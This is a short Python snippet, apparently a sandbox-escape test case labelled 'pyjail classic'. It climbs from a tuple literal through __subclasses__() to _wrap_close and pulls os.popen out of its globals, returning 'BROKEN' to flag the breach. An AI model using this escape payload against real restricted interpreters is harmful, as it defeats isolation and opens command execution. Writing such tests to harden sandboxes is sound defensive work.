# aim: every class of the interpreter, from a literal
# kind: escape
# source: pyjail classic (().__class__.__base__.__subclasses__())
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close']
return 'BROKEN' + str(found[0].__init__.__globals__['popen'] if found else len(found))
